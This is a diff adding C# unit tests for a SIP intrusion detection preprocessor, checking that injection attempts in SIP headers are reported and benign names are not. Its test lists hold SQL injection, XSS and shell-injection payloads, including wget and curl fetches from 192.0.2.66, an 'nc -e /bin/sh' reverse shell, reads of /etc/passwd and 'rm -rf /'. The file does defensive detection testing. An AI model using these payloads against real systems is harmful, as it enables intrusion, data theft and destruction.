@@ -1,0 +1,119 @@
+namespace SipIds.Preprocessors.Tests.Mandatory;
+
+public sealed class InjectionTests
+{
+    public static TheoryData<string> Users =>
+    [
+        "'%20or%201=1--", "%27%20OR%20%271%27=%271", "%2527%2520or%25201%253D1", "1'or'1'='1", "admin'--", "admin'%23", "x'%3BDROP%20TABLE%20users",
+        "1;drop+table+subscriber", "1%20union%20select%20password%20from%20users", "1'/**/UNION/**/SELECT/**/1,2", "1%20or%201=1", "x'%20and%20sleep(5)",
+        "x'||(select%201)||'", "$(reboot)", "${IFS}", "%60id%60", "1;wget%20http://192.0.2.66/x", "1%7Cid", "1%26%26ls%20-la", "1;/bin/sh", "1;cat%20/etc/passwd",
+        "1%0Arm%20-rf%20/", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "javascript:alert(1)", "%3Cimg%20src=x%20onerror=alert(1)%3E",
+    ];
+
+    public static TheoryData<string> HonestUsers =>
+    [
+        "bob", "O'Brien", "user;par=u%40example.net", "*97", "+1(212)555-1234", "%23", "sips%3Auser%40example.com", "null-%00-null", "I%20have%20spaces",
+        "1_unusual.URI~(to-be!sure)&isn't+it$/crazy?,/;;*", "r&d", "sales;id=5", "a=b", "cal%6Cer", "D'Or", "tom&jerry;phone-context=example.com", "#31#", "bob.select",
+    ];
+
+    public static TheoryData<string> Names =>
+    [
+        "' or 1=1 --", "\\' or \\'1\\'=\\'1", "x'; DROP TABLE cdr; --", "1 UNION ALL SELECT password FROM users", "\\\" or \\\"a\\\"=\\\"a",
+        "$(curl http://192.0.2.66/a)", "`id`", "Bob; wget http://192.0.2.66", "Bob | nc -e /bin/sh", "<script>alert(1)</script>", "<ScRiPt src=//x>", "<svg/onload=alert(1)>",
+        "%3Cscript%3E", "&lt;script&gt;", "Bob && rm -rf /",
+    ];
+
+    public static TheoryData<string> HonestNames =>
+    [
+        "O'Brien", "D'Angelo & Sons; Inc", "Rock 'n' Roll", "AT&T", "Sales | Berlin", "Smith, John (IT)", "Western Union Select Services", "Fish & Chips; Cat Lovers",
+        "50% off", "A=B", "Who? What/Where", "J. \\\"JJ\\\" Abrams", "Müller & Söhne", "It's 5 o'clock or so", "Union Square", "C:\\\\Temp", "1 or 2", "<unknown>", "Script & Co",
+        "BEL:\\\u0007 NUL:\\\0", "Customer Support Union", "'Sales' and 'Support'",
+    ];
+
+    [Theory]
+    [MemberData(nameof(Users))]
+    public void A_user_part_with_code_is_reported(string user)
+    {
+        var tester = new MandatoryTester();
+        Assert.Contains(2012, Sids(tester, Messages.Invite.With("INVITE", $"INVITE sip:{user}@example.com SIP/2.0")));
+        Assert.Contains(2012, Sids(tester, Messages.Invite.With("From", $"From: <sip:{user}@example.com>;tag=1")));
+        Assert.Contains(2012, Sids(tester, Messages.Invite.With("To", $"To: sip:{user.Replace(";", "%3B", StringComparison.Ordinal)}@example.com")));
+        Assert.Contains(2012, Sids(tester, Messages.Invite.With("Contact", $"Contact: <sip:192.0.2.1>, <sip:{user}@example.com>")));
+    }
+
+    [Theory]
+    [MemberData(nameof(HonestUsers))]
+    public void An_honest_user_part_is_silent(string user)
+    {
+        var tester = new MandatoryTester();
+        Assert.DoesNotContain(2012, Sids(tester, Messages.Invite.With("INVITE", $"INVITE sip:{user}@example.com SIP/2.0")));
+        Assert.DoesNotContain(2012, Sids(tester, Messages.Invite.With("From", $"From: <sip:{user}@example.com>;tag=1")));
+        Assert.DoesNotContain(2012, Sids(tester, Messages.Invite.With("Contact", $"Contact: <sip:{user}@example.com>")));
+        Assert.DoesNotContain(2012, Sids(tester, Messages.Invite.And($"Authorization: Digest username=\"{user}\", realm=\"r\"")));
+    }
+
+    [Theory]
+    [MemberData(nameof(Names))]
+    public void A_display_name_with_code_is_reported(string name)
+    {
+        var tester = new MandatoryTester();
+        Assert.Contains(2012, Sids(tester, Messages.Invite.With("From", $"From: \"{name}\" <sip:a@example.com>;tag=1")));
+        Assert.Contains(2012, Sids(tester, Messages.Invite.With("To", $"t:\n \"{name}\" <sip:a@example.com>")));
+        Assert.Contains(2012, Sids(tester, Messages.Ok.With("Contact", $"m: \"{name}\" <sip:a@example.com>")));
+    }
+
+    [Theory]
+    [MemberData(nameof(HonestNames))]
+    public void An_honest_display_name_is_silent(string name)
+    {
+        var tester = new MandatoryTester();
+        Assert.DoesNotContain(2012, Sids(tester, Messages.Invite.With("From", $"From: \"{name}\" <sip:a@example.com>;tag=1")));
+        Assert.DoesNotContain(2012, Sids(tester, Messages.Invite.With("Contact", $"Contact: \"{name}\" <sip:a@example.com>")));
+    }
+
+    [Theory]
+    [InlineData("Authorization: Digest username=\"' or 1=1--\", realm=\"r\"")]
+    [InlineData("Proxy-Authorization: Digest realm=\"a, b\", USERNAME = \"x\\\"' or 'a'='a\"")]
+    [InlineData("authorization:\n Digest nonce=abc,\n username=\"admin'--\"")]
+    [InlineData("Authorization: Digest username=\"bob\"\nAuthorization: Digest username=\"bob'--\"")]
+    public void A_Digest_user_name_with_code_is_reported(string lines)
+    {
+        var report = Assert.Single(new MandatoryTester().See(Messages.Invite.And(lines)));
+        Assert.Equal("2012/1", report.ToString());
+    }
+
+    [Theory]
+    [InlineData("Authorization: Digest realm=\"' or 1=1\", username=\"bob\"")]
+    [InlineData("Authorization: NoOneKnowsThisScheme opaque-data=here")]
+    [InlineData("Authorization: Digest username=\"bob")]
+    [InlineData("Authorization: Digest")]
+    public void Other_credentials_are_silent(string line) => Assert.Empty(new MandatoryTester().See(Messages.Invite.And(line)));
+
+    [Theory]
+    [InlineData("INVITE", "INVITE sip:' or 1=1--@example.com SIP/2.0")]
+    [InlineData("From", "From: <sip:<script>alert(1)</script>@example.com>;tag=1")]
+    [InlineData("To", "To: \"x\" <script>alert(1)</script>")]
+    [InlineData("Contact", "Contact: \"><script>alert(1)</script>")]
+    public void Code_that_breaks_its_field_is_found(string header, string line) =>
+        Assert.Contains(2012, Sids(new MandatoryTester(), Messages.Invite.With(header, line)));
+
+    [Fact]
+    public void Padding_hides_nothing()
+    {
+        var user = new string('a', 700) + "%27%20or%201=1--" + new string('b', 300);
+        Assert.Contains(2012, Sids(new MandatoryTester(), Messages.Invite.With("From", $"From: <sip:{user}@example.com>;tag=1")));
+    }
+
+    [Fact]
+    public void The_report_says_what_and_where()
+    {
+        var report = Assert.Single(new MandatoryTester().See(Messages.Invite.With("From", "From: \"x'; drop table cdr\" <sip:a@example.com>;tag=1")));
+        Assert.Equal(("2012/1", "SQL in From: x'; drop table cdr"), (report.ToString(), report.Detail));
+    }
+
+    [Fact]
+    public void A_response_is_not_blamed_for_the_names_of_its_request() =>
+        Assert.Empty(new MandatoryTester().See(Messages.Ok.With("From", "From: \"' or 1=1--\" <sip:a@example.com>;tag=1")));
+
+    private static IEnumerable<int> Sids(MandatoryTester tester, string message) => tester.See(message).Select(report => report.Sid);
+}
